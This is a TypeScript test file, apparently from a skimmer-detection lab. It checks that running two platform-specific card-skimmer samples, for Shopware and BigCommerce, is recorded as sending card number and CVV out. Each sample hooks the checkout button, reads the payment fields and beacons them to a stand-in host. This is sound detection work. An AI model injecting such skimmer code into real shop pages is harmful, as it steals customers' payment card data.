// Guards that the laboratory's shop has what skimmers wait for that are made for one platform: its fields, its form and its button.
import { expect, it } from 'vitest'
import { all, run, shareBrowser } from './run.ts'

shareBrowser()

it.each([
  [
    'Shopware',
    `if (window.PluginManager && document.body.classList.contains('is-act-confirmpage'))
      document.getElementById('confirmFormSubmit').addEventListener('click', () => {
        const form = document.querySelector('#confirmOrderForm')
        if (form.elements.tos.checked) navigator.sendBeacon('https://shopware.example/', JSON.stringify({
          card: form.querySelector('#unzer-payment-credit-card-number').value, code: form.querySelector('#unzer-payment-credit-card-cvc').value }))
      })`,
    'shopware.example',
  ],
  [
    'BigCommerce',
    `if (window.BCData && document.querySelector('#checkout-app .checkout-step--payment'))
      document.getElementById('checkout-payment-continue').addEventListener('click', function () {
        const { ccNumber, ccCvv } = this.form.elements
        navigator.sendBeacon('https://bigcommerce.example/', JSON.stringify({ card: ccNumber.value, code: ccCvv.value }))
      })`,
    'bigcommerce.example',
  ],
])('shows in its first run what a skimmer of %s takes', async (_platform, code, to) => {
  const sent = all(await run(code), 'sends').map(({ what, gate, to }) => ({ what, gate, to }))
  expect(sent).toEqual(
    expect.arrayContaining([
      { what: 'card', gate: null, to },
      { what: 'cvv', gate: null, to },
    ]),
  )
})
